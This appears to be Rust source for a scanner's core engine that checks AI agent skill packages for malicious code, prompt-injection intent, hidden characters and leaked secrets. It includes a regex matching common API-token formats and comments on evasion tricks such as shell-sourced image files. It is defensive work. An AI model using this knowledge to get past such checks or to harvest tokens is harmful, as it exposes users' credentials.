//! The scanner: builds the keyword automata once (each rule's regex compiles at its first use),
//! then scans a text in one keyword pass.
//!
//! Architecture Invariant: one Aho-Corasick pass over the content finds every keyword of every
//! regex rule; a rule's regex runs only on the lines (or, for multi-line rules, the texts) where
//! one of its keywords occurred. Native checks self-gate (the Unicode checks run only on
//! non-ASCII text). Nothing here panics on any input: all slicing is checked.

use crate::capabilities;
use crate::checks;
use crate::context;
use crate::coverage::{
    classify, decode_utf16, mostly_utf8, name_matters, size, Coverage, Gap, Kind,
};
use crate::decode;
use crate::flow;
use crate::intent;
use crate::model::{Finding, Limits, ScanReport, ScanStats, Severity};
use crate::normalize;
use crate::rules::{Detector, MatchCtx, Outcome, RegexDetector, RuleDef, Scope, RULES};
use aho_corasick::automaton::{Automaton, StateID};
use aho_corasick::dfa::DFA;
use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, Anchored, MatchKind};
use regex::Regex;
use std::collections::HashMap;
use std::sync::OnceLock;
use std::time::Instant;

/// Rule compilation failed (a bug in the catalog; covered by a unit test).
#[derive(Debug, thiserror::Error)]
pub enum RuleError {
    #[error("rule {id}: invalid pattern: {source}")]
    Pattern {
        id: &'static str,
        #[source]
        source: regex::Error,
    },
    #[error("rule {id}: a regex rule needs at least one lowercase keyword")]
    Keywords { id: &'static str },
    #[error("keyword automaton: {0}")]
    Automaton(String),
    #[error("auxiliary pattern: {0}")]
    Aux(#[from] regex::Error),
}

/// At most this many findings of one rule in one file.
const MAX_PER_RULE_PER_FILE: usize = 20;
/// At most this many findings in one file.
const MAX_PER_FILE: usize = 200;
/// At most this many findings of one rule in one scan (all files together).
pub const MAX_PER_RULE_PER_SCAN: usize = 50;
/// At most this many findings in one scan, so an answer stays small (a few hundred KiB).
pub const MAX_PER_SCAN: usize = 500;

struct CompiledRule {
    def: &'static RuleDef,
    /// A regex rule's detector and its regex, compiled the first time a keyword of the rule
    /// occurs (see [`Scanner::rule_regex`]): compiled regexes are most of the Guard's memory
    /// (tens of MiB for the whole catalog, one rule alone about 18 MiB), and a scan needs the
    /// few rules whose keywords it meets.
    regex: Option<(OnceLock<Option<Regex>>, RegexDetector)>,
}

/// Compiles the regex of one rule.
fn compile_rule(def: &RuleDef, det: &RegexDetector) -> Result<Regex, RuleError> {
    regex::RegexBuilder::new(det.pattern)
        .size_limit(1 << 24)
        .build()
        .map_err(|source| RuleError::Pattern { id: def.id, source })
}

/// Auxiliary patterns of the native checks and of excerpt redaction.
pub(crate) struct Aux {
    pub redact: Regex,
    pub intent: intent::Patterns,
}

/// Keyword of the data-flow pass (a source).
const AUX_FLOW_SOURCE: u8 = 128;
/// Keyword of the injection-intent pass.
const AUX_INTENT: u8 = 64;
/// Keywords that widen decoding (see `decode`).
pub(crate) const AUX_BASE64: u8 = 1;
pub(crate) const AUX_ROT13: u8 = 2;
pub(crate) const AUX_REVERSE: u8 = 4;

/// What the keyword pass learnt for the other passes.
#[derive(Debug, Default)]
pub(crate) struct Prepass {
    /// Starts of the lines that hold a data-flow source word (sorted).
    pub source_lines: Vec<usize>,
    /// Starts of the lines that hold an injection-intent word (sorted).
    pub intent_lines: Vec<usize>,
    /// `AUX_BASE64 | AUX_ROT13 | AUX_REVERSE` when their words occur.
    pub gates: u8,
}

/// A raw detection before line/column/excerpt are computed.
#[derive(Debug, Clone)]
pub(crate) struct Hit {
    pub rule: usize,
    pub start: usize,
    pub end: usize,
    pub severity: Severity,
    pub message: Option<String>,
    pub redact: Option<(usize, usize)>,
}

/// The compiled rule set. Cheap to share (`Arc<Scanner>` or `&'static`); `Send + Sync`.
pub struct Scanner {
    rules: Vec<CompiledRule>,
    /// Every keyword of the regex rules and of the auxiliary passes, walked by
    /// [`KeywordHits`].
    keywords: DFA,
    /// The keyword automaton's unanchored start state.
    keyword_start: StateID,
    keyword_rules: Vec<Vec<usize>>,
    /// Per keyword: which auxiliary pass (data flow, decoding gates) waits for it.
    aux_kind: Vec<u8>,
    ids: HashMap<&'static str, usize>,
    pub(crate) aux: Aux,
    /// The strongest indicators (`coverage::INDICATORS`), for what is not read whole.
    pub(crate) indicators: AhoCorasick,
}

impl std::fmt::Debug for Scanner {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Scanner")
            .field("rules", &self.rules.len())
            .finish()
    }
}

impl Scanner {
    /// Compiles the catalog. Call once and share the result.
    pub fn new() -> Result<Scanner, RuleError> {
        let mut rules = Vec::with_capacity(RULES.len());
        let mut keyword_index: HashMap<&'static str, usize> = HashMap::new();
        let mut keywords: Vec<&'static str> = Vec::new();
        let mut keyword_rules: Vec<Vec<usize>> = Vec::new();
        let mut ids = HashMap::new();
        for (i, def) in RULES.iter().enumerate() {
            ids.insert(def.id, i);
            let regex = match def.detector {
                Detector::Regex(det) => {
                    if det.keywords.is_empty()
                        || det
                            .keywords
                            .iter()
                            .any(|k| k.is_empty() || k.to_ascii_lowercase() != *k)
                    {
                        return Err(RuleError::Keywords { id: def.id });
                    }
                    for kw in det.keywords {
                        let k = *keyword_index.entry(kw).or_insert_with(|| {
                            keywords.push(kw);
                            keyword_rules.push(Vec::new());
                            keywords.len() - 1
                        });
                        if let Some(list) = keyword_rules.get_mut(k) {
                            if !list.contains(&i) {
                                list.push(i);
                            }
                        }
                    }
                    Some((OnceLock::new(), det))
                }
                Detector::Native => None,
            };
            rules.push(CompiledRule { def, regex });
        }
        // Words the data-flow and decoding passes wait for ride in the same automaton.
        let mut aux_kind: Vec<u8> = vec![0; keywords.len()];
        for (words, kind) in [
            (flow::SOURCE_WORDS_ALL, AUX_FLOW_SOURCE),
            (intent::GATE_WORDS, AUX_INTENT),
            (decode::GATE_BASE64_WORDS, AUX_BASE64),
            (decode::GATE_ROT13_WORDS, AUX_ROT13),
            (decode::GATE_REVERSE_WORDS, AUX_REVERSE),
        ] {
            for w in words.iter().flat_map(|l| l.iter()) {
                keywords.push(w);
                keyword_rules.push(Vec::new());
                aux_kind.push(kind);
            }
        }
        // No prefilter: with this many keywords none would apply, and without one the start
        // state is not special, so the walk in `KeywordHits` stops only at matches.
        let automaton = aho_corasick::dfa::Builder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .prefilter(false)
            .build(&keywords)
            .map_err(|e| RuleError::Automaton(e.to_string()))?;
        let keyword_start = automaton
            .start_state(Anchored::No)
            .map_err(|e| RuleError::Automaton(e.to_string()))?;
        let aux = Aux {
            redact: Regex::new(
                r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b|\bgh[pousr]_[A-Za-z0-9]{20,}|\bgithub_pat_[A-Za-z0-9_]{20,}|\bsk-[A-Za-z0-9_-]{20,}|\bxox[abposre]-[0-9A-Za-z-]{10,}|\b(?:sk|rk)_live_[0-9A-Za-z]{10,}|\bAIza[0-9A-Za-z_-]{30,}|\beyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_.-]{10,}",
            )?,
            intent: intent::Patterns::new()?,
        };
        let indicators = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::LeftmostFirst)
            .kind(Some(AhoCorasickKind::DFA))
            .build(crate::coverage::INDICATORS)
            .map_err(|e| RuleError::Automaton(e.to_string()))?;
        Ok(Scanner {
            rules,
            keywords: automaton,
            keyword_start,
            keyword_rules,
            aux_kind,
            ids,
            aux,
            indicators,
        })
    }

    /// The regex and detector of rule `r`, compiled on first use (`None` for a native rule, or
    /// for a pattern that does not compile, which [`Scanner::compile_all`] reports).
    fn rule_regex(&self, r: usize) -> Option<(&Regex, &RegexDetector)> {
        let rule = self.rules.get(r)?;
        let (slot, det) = rule.regex.as_ref()?;
        let re = slot
            .get_or_init(|| compile_rule(rule.def, det).ok())
            .as_ref()?;
        Some((re, det))
    }

    /// Compiles every regex rule now instead of at its first use, and reports the first that
    /// does not compile (a bug in the catalog; the tests call it). A scan never needs it.
    pub fn compile_all(&self) -> Result<(), RuleError> {
        for rule in &self.rules {
            if let Some((slot, det)) = &rule.regex {
                if slot.get().is_none() {
                    let re = compile_rule(rule.def, det)?;
                    let _ = slot.set(Some(re));
                }
            }
        }
        self.aux.intent.i18n.compile()?;
        Ok(())
    }

    /// How many rule regexes are compiled so far.
    #[cfg(test)]
    pub(crate) fn compiled_rules(&self) -> usize {
        self.rules
            .iter()
            .filter(|r| {
                r.regex
                    .as_ref()
                    .is_some_and(|(slot, _)| slot.get().is_some())
            })
            .count()
    }

    /// The rule index of an id (native checks report by id).
    pub(crate) fn rule_index(&self, id: &str) -> Option<usize> {
        self.ids.get(id).copied()
    }

    /// Adds the capability facts of one text to `into` (lines shortened to 160 characters;
    /// they are redacted by [`Scanner::shown`] when the inventory is built).
    pub(crate) fn capabilities(
        &self,
        path: Option<&str>,
        text: &str,
        into: &mut capabilities::Collector,
    ) {
        let shorten = |line: &str| -> String {
            let t = line.trim();
            let end = ceil_boundary(t, 160.min(t.len()));
            let mut s = t.get(..end).unwrap_or("").to_string();
            if end < t.len() {
                s.push('…');
            }
            s
        };
        capabilities::extract(path, text, &shorten, &mut into.facts, &mut into.referenced);
        capabilities::code_facts(path, text, &shorten, &mut into.facts, &mut into.code_time);
        if let Some(p) = path {
            into.kept.keep(p, text);
        }
    }

    /// Text as a result shows it: invisible characters made visible, secrets redacted.
    pub(crate) fn shown(&self, text: &str) -> String {
        let visible = checks::make_visible(text);
        self.aux
            .redact
            .replace_all(&visible, |c: &regex::Captures<'_>| {
                redacted(c.get(0).map_or("", |m| m.as_str()))
            })
            .into_owned()
    }

    /// The default severity of a rule.
    pub(crate) fn rule_severity(&self, rule: usize) -> Severity {
        self.rules
            .get(rule)
            .map_or(Severity::Info, |r| r.def.severity)
    }

    /// Number of compiled rules.
    pub fn rule_count(&self) -> usize {
        self.rules.len()
    }

    /// Scans one text. `path` (if any) appears in the findings and enables file-type checks
    /// (SKILL.md frontmatter, Python loops).
    pub fn scan_text(&self, path: Option<&str>, text: &str) -> Vec<Finding> {
        self.scan_text_counted(path, text).0
    }

    /// [`Scanner::scan_text`], and how many detections the per-rule and per-file caps left out.
    pub fn scan_text_counted(&self, path: Option<&str>, text: &str) -> (Vec<Finding>, u64) {
        let mut hits = self.collect_hits(path, text, 0);
        context::adjust(path, text, &mut hits);
        self.to_findings(path, text, hits)
    }

    /// Every detection in `text`, at decode depth `depth`.
    ///
    /// The regex rules and the data-flow pass run on the normalised view (see `normalize`);
    /// their offsets are mapped back to the original. The Unicode, frontmatter and decoding
    /// checks look at the original text.
    pub(crate) fn collect_hits(&self, path: Option<&str>, text: &str, depth: u8) -> Vec<Hit> {
        let view = normalize::view(text);
        let mut hits = Vec::new();
        let pre = self.regex_pass(path, &view.text, &mut hits);
        flow::run(self, &pre.source_lines, &view.text, &mut hits);
        intent::run(self, &pre.intent_lines, &view.text, &mut hits);
        if view.changed() {
            for h in &mut hits {
                h.start = view.to_orig(h.start);
                h.end = view.to_orig(h.end).max(h.start);
                h.redact = h.redact.map(|(a, b)| (view.to_orig(a), view.to_orig(b)));
                let disguised = text.get(h.start..h.end).is_some_and(disguises);
                if disguised && h.message.is_none() {
                    if let Some(def) = RULES.get(h.rule) {
                        h.message = Some(format!(
                            "{} Matched after Unicode normalisation: the text spells it with look-alike, decorated or hidden characters.",
                            def.description
                        ));
                        h.severity = h.severity.max(Severity::Medium);
                    }
                }
            }
        }
        checks::run(self, path, text, &mut hits);
        decode::run(self, text, pre.gates, depth, &mut hits);
        hits
    }

    /// Detections in a decoded run (for decode-and-rescan).
    pub(crate) fn decoded_hits(&self, text: &str, depth: u8) -> Vec<Hit> {
        self.collect_hits(Some("<decoded>"), text, depth)
    }

    /// Scans a set of files with the contract's per-file limit (see `scan_files_with`).
    pub fn scan_files<I, P, B>(&self, files: I) -> ScanReport
    where
        I: IntoIterator<Item = (P, B)>,
        P: AsRef<str>,
        B: AsRef<[u8]>,
    {
        self.scan_files_with(files, &Limits::CONTRACT)
    }

    /// Scans a set of files held in memory. What cannot be read whole (files over
    /// `limits.max_file_bytes` are read in part, files past `limits.max_files` only by a
    /// keyword pass, executables, archives and unknown binaries not at all) is counted in
    /// `stats.files_skipped` and reported as `scan.incomplete`; images, fonts and media are
    /// skipped quietly; a bundled native executable is also reported as such.
    pub fn scan_files_with<I, P, B>(&self, files: I, limits: &Limits) -> ScanReport
    where
        I: IntoIterator<Item = (P, B)>,
        P: AsRef<str>,
        B: AsRef<[u8]>,
    {
        let mut scan = self.files_scan(limits);
        for (path, bytes) in files {
            scan.add(path.as_ref(), bytes.as_ref());
        }
        scan.finish()
    }

    /// A scan fed one file at a time, so a repository need not be held in memory whole.
    pub fn files_scan(&self, limits: &Limits) -> FilesScan<'_> {
        FilesScan {
            scanner: self,
            limits: *limits,
            report: ScanReport::default(),
            seen: 0,
            per_rule: HashMap::new(),
            started: Instant::now(),
            coverage: Coverage::default(),
            past_budget_named: PAST_COUNT_BUDGET_NAMED,
            past_budget_other: PAST_COUNT_BUDGET_OTHER,
            windows_left: crate::partial::MAX_WINDOWS_PER_SCAN,
            capabilities: capabilities::Collector::default(),
            lowered: Vec::new(),
            binaries: Vec::new(),
        }
    }

    /// Scans pasted content as one text and returns a report with stats. Content over the
    /// contract's per-file limit is read in part and reported as `scan.incomplete`.
    pub fn scan_content(&self, text: &str) -> ScanReport {
        self.scan_content_with(text, &Limits::CONTRACT)
    }

    /// [`Scanner::scan_content`] with other limits.
    pub fn scan_content_with(&self, text: &str, limits: &Limits) -> ScanReport {
        let started = Instant::now();
        let mut report = ScanReport {
            findings: Vec::new(),
            stats: ScanStats {
                files_scanned: 1,
                ..ScanStats::default()
            },
        };
        let mut per_rule = HashMap::new();
        if text.len() as u64 > limits.max_file_bytes {
            let partial = self
                .scan_partial(
                    None,
                    text.as_bytes(),
                    &mut std::io::empty(),
                    limits,
                    crate::partial::MAX_WINDOWS,
                )
                .unwrap_or_default();
            let mut coverage = Coverage::default();
            coverage.windows_dropped = partial.windows_dropped;
            coverage.note(Gap::Oversized, "", size(text.len() as u64));
            report.findings = coverage.findings(limits);
            report.stats.bytes_scanned = partial.bytes_scanned;
            report.stats.findings_truncated = partial.truncated;
            keep_within_scan_caps(&mut report, &mut per_rule, partial.findings);
        } else {
            let (findings, truncated) = self.scan_text_counted(None, text);
            report.stats.bytes_scanned = text.len() as u64;
            report.stats.findings_truncated = truncated;
            keep_within_scan_caps(&mut report, &mut per_rule, findings);
            let mut collector = capabilities::Collector::default();
            self.capabilities(None, text, &mut collector);
            let (inventory, combos) = collector.finish(&|t: &str| self.shown(t));
            report.stats.inventory = inventory;
            keep_within_scan_caps(&mut report, &mut per_rule, combos);
        }
        report.stats.duration_ms = u64::try_from(started.elapsed().as_millis()).unwrap_or(u64::MAX);
        report
    }

    fn regex_pass(&self, path: Option<&str>, text: &str, hits: &mut Vec<Hit>) -> Prepass {
        let mut pre = Prepass::default();
        // Per rule, the end of the region already searched: a keyword inside it adds nothing.
        let mut checked_until: Vec<usize> = vec![0; self.rules.len()];
        let mut text_rules: Vec<usize> = Vec::new();
        let mut cur_line: Option<(usize, usize)> = None;
        for m in KeywordHits::new(&self.keywords, self.keyword_start, text.as_bytes()) {
            let Some(rule_ids) = self.keyword_rules.get(m.pattern) else {
                continue;
            };
            let pos = m.start;
            let aux = self.aux_kind.get(m.pattern).copied().unwrap_or(0);
            if aux != 0 {
                if aux == AUX_FLOW_SOURCE || aux == AUX_INTENT {
                    let (ls, _) = match cur_line {
                        Some((ls, le)) if pos >= ls && pos < le.max(ls + 1) => (ls, le),
                        _ => line_bounds(text, pos),
                    };
                    let list = if aux == AUX_INTENT {
                        &mut pre.intent_lines
                    } else {
                        &mut pre.source_lines
                    };
                    if list.last() != Some(&ls) {
                        list.push(ls);
                    }
                } else {
                    pre.gates |= aux;
                }
                continue;
            }
            let (ls, le) = match cur_line {
                Some((ls, le)) if pos >= ls && pos < le.max(ls + 1) => (ls, le),
                _ => {
                    let bounds = line_bounds(text, pos);
                    cur_line = Some(bounds);
                    bounds
                }
            };
            for &r in rule_ids {
                let Some(rule) = self.rules.get(r) else {
                    continue;
                };
                let Some((_, det)) = &rule.regex else {
                    continue;
                };
                match det.scope {
                    Scope::Line => {
                        if checked_until.get(r).is_some_and(|&u| m.end <= u) {
                            continue;
                        }
                        // Short lines are searched whole; very long lines (minified code) in a
                        // window around the keyword.
                        let (ws, we) = if le - ls <= 2 * LONG_LINE_WINDOW {
                            (ls, le)
                        } else {
                            (
                                floor_boundary(text, pos.saturating_sub(LONG_LINE_WINDOW).max(ls)),
                                ceil_boundary(text, (m.end + LONG_LINE_WINDOW).min(le)),
                            )
                        };
                        if let Some(slot) = checked_until.get_mut(r) {
                            *slot = we;
                        }
                        self.run_regex(r, path, text, ws, we, hits);
                    }
                    Scope::Text => {
                        if !text_rules.contains(&r) {
                            text_rules.push(r);
                        }
                    }
                }
            }
        }
        for r in text_rules {
            self.run_regex(r, path, text, 0, text.len(), hits);
        }
        pre
    }

    /// Runs rule `r` over `text[from..to]` (with look-behind context) and records its hits.
    fn run_regex(
        &self,
        r: usize,
        path: Option<&str>,
        text: &str,
        from: usize,
        to: usize,
        hits: &mut Vec<Hit>,
    ) {
        let Some(rule) = self.rules.get(r) else {
            return;
        };
        let Some((re, det)) = self.rule_regex(r) else {
            return;
        };
        let Some(hay) = text.get(..to) else { return };
        let mut pos = from;
        let mut count = 0;
        while pos <= hay.len() && count < MAX_PER_RULE_PER_FILE {
            let Some(caps) = re.captures_at(hay, pos) else {
                break;
            };
            let Some(m) = caps.get(0) else { break };
            pos = if m.end() > m.start() {
                m.end()
            } else {
                next_boundary(hay, m.end())
            };
            let (line_start, line_end) = if det.scope == Scope::Line {
                (from, to)
            } else {
                line_bounds(text, m.start())
            };
            let ctx = MatchCtx {
                text,
                path,
                line_start,
                line_end,
                caps: &caps,
            };
            let severity = match det.filter.map_or(Outcome::Keep, |f| f(&ctx)) {
                Outcome::Drop => continue,
                Outcome::Keep => rule.def.severity,
                Outcome::Adjust(s) => s,
            };
            // Context lowers severity, never hides: say why.
            let message = (severity < rule.def.severity).then(|| {
                format!(
                    "{} Reported as {severity} instead of {}: {}.",
                    rule.def.description,
                    rule.def.severity,
                    lowered_reason(rule.def.id)
                )
            });
            let redact = if det.secret {
                let g = caps.get(1).unwrap_or(m);
                Some((g.start(), g.end()))
            } else {
                None
            };
            hits.push(Hit {
                rule: r,
                start: m.start(),
                end: m.end(),
                severity,
                message,
                redact,
            });
            count += 1;
        }
    }

    /// Findings of one text within the per-rule and per-file caps, and how many the caps left
    /// out (detections on a line already reported for the same rule are duplicates, not
    /// counted).
    fn to_findings(
        &self,
        path: Option<&str>,
        text: &str,
        mut hits: Vec<Hit>,
    ) -> (Vec<Finding>, u64) {
        hits.sort_by_key(|h| (h.start, h.rule));
        let bytes = text.as_bytes();
        let mut findings: Vec<Finding> = Vec::new();
        // (rule, line) → the index of its finding, or `None` when the caps left it out.
        let mut seen: HashMap<(usize, u32), Option<usize>> = HashMap::new();
        let mut per_rule: HashMap<usize, usize> = HashMap::new();
        let mut line_no: u32 = 1;
        let mut counted_to = 0usize;
        let mut truncated = 0u64;
        for hit in hits {
            let start = hit.start.min(text.len());
            if start >= counted_to {
                let n =
                    memchr::memchr_iter(b'\n', bytes.get(counted_to..start).unwrap_or(&[])).count();
                line_no = line_no.saturating_add(u32::try_from(n).unwrap_or(u32::MAX));
                counted_to = start;
            }
            if let Some(&reported) = seen.get(&(hit.rule, line_no)) {
                // One finding per rule and line: the most severe detection of the line (a key
                // used by `ssh -i` and the same key uploaded on that line is the upload).
                let weaker = reported
                    .and_then(|i| findings.get_mut(i))
                    .filter(|f| hit.severity > f.severity);
                if let Some(slot) = weaker {
                    if let Some(f) = self.finding(path, text, &hit, line_no) {
                        *slot = f;
                    }
                }
                continue;
            }
            let n = per_rule.entry(hit.rule).or_insert(0);
            if *n >= MAX_PER_RULE_PER_FILE || findings.len() >= MAX_PER_FILE {
                truncated += 1;
                // Count each left-out line once.
                seen.insert((hit.rule, line_no), None);
                continue;
            }
            *n += 1;
            let Some(finding) = self.finding(path, text, &hit, line_no) else {
                seen.insert((hit.rule, line_no), None);
                continue;
            };
            seen.insert((hit.rule, line_no), Some(findings.len()));
            findings.push(finding);
        }
        (findings, truncated)
    }

    /// The finding of one detection on line `line_no`.
    fn finding(&self, path: Option<&str>, text: &str, hit: &Hit, line_no: u32) -> Option<Finding> {
        let def = RULES.get(hit.rule)?;
        let start = hit.start.min(text.len());
        let (ls, le) = line_bounds(text, start);
        let column = text.get(ls..start).map_or(0, |s| s.chars().count()) + 1;
        let excerpt = self.excerpt(text, ls, le, start, hit.end, hit.redact);
        Some(Finding {
            rule_id: def.id.to_string(),
            severity: hit.severity,
            title: def.title.to_string(),
            message: match &hit.message {
                Some(m) => self
                    .aux
                    .redact
                    .replace_all(m, |c: &regex::Captures<'_>| {
                        redacted(c.get(0).map_or("", |m| m.as_str()))
                    })
                    .into_owned(),
                None => def.description.to_string(),
            },
            path: path.map(str::to_string),
            line: line_no,
            column: u32::try_from(column).unwrap_or(u32::MAX),
            excerpt,
        })
    }

    /// A short, single-line excerpt around the match, secrets redacted, hidden characters shown.
    fn excerpt(
        &self,
        text: &str,
        ls: usize,
        le: usize,
        start: usize,
        end: usize,
        redact: Option<(usize, usize)>,
    ) -> String {
        const BEFORE: usize = 60;
        const AFTER: usize = 100;
        let mut ws = start.saturating_sub(BEFORE).max(ls);
        while ws > ls && !text.is_char_boundary(ws) {
            ws -= 1;
        }
        let mut we = (start + AFTER).max(end.min(start + AFTER)).min(le);
        while we < le && !text.is_char_boundary(we) {
            we += 1;
        }
        let mut raw = String::new();
        if ws > ls {
            raw.push('…');
        }
        match redact {
            Some((rs, re)) if rs < we && re > ws => {
                let a = rs.max(ws);
                let b = re.min(we);
                raw.push_str(text.get(ws..a).unwrap_or(""));
                let secret = text.get(a..b).unwrap_or("");
                raw.push_str(&redacted(secret));
                raw.push_str(text.get(b..we).unwrap_or(""));
            }
            _ => raw.push_str(text.get(ws..we).unwrap_or("")),
        }
        if we < le {
            raw.push('…');
        }
        let visible = checks::make_visible(raw.trim());
        self.aux
            .redact
            .replace_all(&visible, |c: &regex::Captures<'_>| {
                redacted(c.get(0).map_or("", |m| m.as_str()))
            })
            .into_owned()
    }
}

/// Bytes given the keyword pass past the file-count limit, per scan: files whose names matter
/// (scripts, manifests, hooks, SKILL.md) and the others.
const PAST_COUNT_BUDGET_NAMED: u64 = 16 * 1024 * 1024;
const PAST_COUNT_BUDGET_OTHER: u64 = 4 * 1024 * 1024;

/// A scan over files fed one at a time ([`Scanner::files_scan`]); [`FilesScan::finish`] gives
/// the report. Applies the per-scan caps on findings ([`MAX_PER_RULE_PER_SCAN`],
/// [`MAX_PER_SCAN`]) and counts what they leave out in `stats.findings_truncated`. What it
/// cannot read whole it records (see `coverage`), and `finish` reports it first, never capped,
/// as `scan.incomplete`.
pub struct FilesScan<'a> {
    scanner: &'a Scanner,
    limits: Limits,
    report: ScanReport,
    seen: u64,
    per_rule: HashMap<String, usize>,
    started: Instant,
    coverage: Coverage,
    past_budget_named: u64,
    past_budget_other: u64,
    /// Indicator lines the partial scans of this scan may still scan with every rule.
    windows_left: usize,
    /// Capability facts of the files read whole.
    capabilities: capabilities::Collector,
    /// Findings of carried files before they were weighed down (path, rule, line, severity,
    /// message): restored at the end when something that runs invokes the file.
    lowered: Vec<(String, String, u32, Severity, String)>,
    /// Native executables met, weighed at the end by whether anything invokes them.
    binaries: Vec<(String, &'static str)>,
}

/// At most this many weighed-down findings remembered per scan.
const MAX_LOWERED: usize = 4_096;
/// At most this many executables weighed at the end of a scan (past it, reported at once).
const MAX_BINARIES: usize = 256;

impl FilesScan<'_> {
    /// Scans one file held in memory (over the size limit: in part; past the count limit: by
    /// the keyword pass; binary: by kind).
    pub fn add(&mut self, path: &str, bytes: &[u8]) {
        self.seen += 1;
        if self.seen > self.limits.max_files {
            self.past_count(path, bytes);
        } else if bytes.len() as u64 > self.limits.max_file_bytes {
            // Reading from memory cannot fail.
            let _ = self.oversized(path, bytes, &mut std::io::empty());
        } else {
            self.whole(path, bytes);
        }
    }

    /// Scans a file over the size limit without holding it: `head` is what was read of it
    /// (more than the limit), `rest` reads the remainder. Fails only when `rest` does.
    pub fn add_oversized(
        &mut self,
        path: &str,
        head: &[u8],
        rest: &mut dyn std::io::Read,
    ) -> std::io::Result<()> {
        self.seen += 1;
        if self.seen > self.limits.max_files {
            self.past_count(path, head);
            return Ok(());
        }
        self.oversized(path, head, rest)
    }

    /// Counts a file that could not be read (`why`: the error, shown in the finding).
    pub fn add_unreadable(&mut self, path: &str, why: &str) {
        self.seen += 1;
        self.report.stats.files_skipped += 1;
        self.coverage.note(Gap::Unreadable, path, why);
    }

    /// Counts a file left unread because the bytes read in all reached their limit.
    pub fn add_past_total(&mut self, path: &str) {
        self.seen += 1;
        self.report.stats.files_skipped += 1;
        self.coverage.note(Gap::PastTotal, path, "");
    }

    /// Whether the next file, named `path`, would be read at all: false past the count limit
    /// once the keyword pass's budget for such names is spent (then [`FilesScan::add_unread`]
    /// counts it without reading it).
    pub fn will_read(&self, path: &str) -> bool {
        if self.seen < self.limits.max_files {
            return true;
        }
        let budget = if name_matters(path) {
            self.past_budget_named
        } else {
            self.past_budget_other
        };
        budget > 0
    }

    /// Counts a file past the count limit without reading it.
    pub fn add_unread(&mut self, path: &str) {
        self.seen += 1;
        self.report.stats.files_skipped += 1;
        self.coverage.note(Gap::PastCount, path, "");
        self.coverage.past_count_unread += 1;
    }

    fn whole(&mut self, path: &str, bytes: &[u8]) {
        let text = match classify(bytes) {
            Kind::Text => match std::str::from_utf8(bytes) {
                Ok(text) => std::borrow::Cow::Borrowed(text),
                Err(_) => {
                    if !mostly_utf8(bytes) {
                        self.coverage.note(Gap::Encoding, path, "");
                    }
                    String::from_utf8_lossy(bytes)
                }
            },
            Kind::Utf16(little_endian) => {
                std::borrow::Cow::Owned(decode_utf16(bytes, little_endian))
            }
            kind => {
                self.not_text(path, bytes, kind);
                return;
            }
        };
        self.report.stats.files_scanned += 1;
        self.report.stats.bytes_scanned += bytes.len() as u64;
        let (mut findings, truncated) = self.scanner.scan_text_counted(Some(path), &text);
        if capabilities::carried(Some(path)).is_some() {
            for f in &findings {
                if self.lowered.len() < MAX_LOWERED {
                    self.lowered.push((
                        path.to_string(),
                        f.rule_id.clone(),
                        f.line,
                        f.severity,
                        f.message.clone(),
                    ));
                }
            }
        }
        capabilities::weigh(Some(path), &mut findings);
        self.scanner
            .capabilities(Some(path), &text, &mut self.capabilities);
        self.report.stats.findings_truncated += truncated;
        keep_within_scan_caps(&mut self.report, &mut self.per_rule, findings);
    }

    /// A file that is not text: skipped, and recorded unless it cannot hold code.
    fn not_text(&mut self, path: &str, bytes: &[u8], kind: Kind) {
        self.report.stats.files_skipped += 1;
        match kind {
            Kind::Text | Kind::Utf16(_) => {}
            Kind::Inert => self.inert(path, bytes),
            Kind::Executable(name) => {
                self.coverage.note(Gap::Executable, path, name);
                if let Some(native) = executable_kind(bytes) {
                    self.executable_finding(path, native);
                }
            }
            Kind::Archive(name) => self.coverage.note(Gap::Archive, path, name),
            Kind::Binary => self.coverage.note(Gap::Binary, path, ""),
        }
    }

    /// The keyword pass over one file, within the scan's budget of windows.
    fn indicator_lines(&mut self, path: &str, bytes: &[u8]) -> crate::partial::Partial {
        let partial = self
            .scanner
            .scan_indicator_lines(Some(path), bytes, self.windows_left);
        self.windows_left = self
            .windows_left
            .saturating_sub(usize::try_from(partial.windows).unwrap_or(usize::MAX));
        partial
    }

    /// An image, font or media file cannot hold code, but text appended to one can still be
    /// sourced by a shell (`. icon.png` ignores NUL bytes): the keyword pass looks for the
    /// strongest indicators, and what the rules then find at medium or above is reported.
    fn inert(&mut self, path: &str, bytes: &[u8]) {
        if self.windows_left == 0 {
            return;
        }
        let partial = self.indicator_lines(path, bytes);
        let findings = partial
            .findings
            .into_iter()
            .filter(|f| f.severity >= Severity::Medium)
            .collect();
        keep_within_scan_caps(&mut self.report, &mut self.per_rule, findings);
    }

    /// A native executable: weighed at the end of the scan, when it is known whether anything
    /// invokes it ([`FilesScan::weigh_binaries`]).
    fn executable_finding(&mut self, path: &str, kind: &'static str) {
        if self.binaries.len() < MAX_BINARIES {
            self.binaries.push((path.to_string(), kind));
            return;
        }
        let finding = self.binary_finding(path, kind, None, "");
        keep_within_scan_caps(
            &mut self.report,
            &mut self.per_rule,
            finding.into_iter().collect(),
        );
    }

    fn binary_finding(
        &self,
        path: &str,
        kind: &str,
        severity: Option<Severity>,
        why: &str,
    ) -> Option<Finding> {
        let rule = self.scanner.rule_index("file.executable-binary")?;
        let def = RULES.get(rule)?;
        Some(Finding {
            rule_id: def.id.to_string(),
            severity: severity.unwrap_or(def.severity),
            title: def.title.to_string(),
            message: format!("{kind} binary bundled with the skill{why}"),
            path: Some(path.to_string()),
            line: 1,
            column: 1,
            excerpt: String::new(),
        })
    }

    /// Know what runs and what is only carried: a bundled executable that something running
    /// names (SKILL.md, a script of the skill, a manifest) keeps its weight, high when an
    /// install hook runs it; one that nothing invokes is weighed as low, with the reason. It
    /// is never hidden, and the scan stays incomplete for it (`scan.incomplete`).
    fn weigh_binaries(&mut self) {
        let binaries = std::mem::take(&mut self.binaries);
        let mut out = Vec::new();
        for (i, (path, kind)) in binaries.into_iter().enumerate() {
            let def = self
                .scanner
                .rule_index("file.executable-binary")
                .map(|r| self.scanner.rule_severity(r))
                .unwrap_or(Severity::Medium);
            let search = i < capabilities::MAX_NAMED_SEARCHES;
            let (severity, why) = match self.capabilities.invoker(&path, search) {
                Some((by, true)) => (
                    def.max(Severity::High),
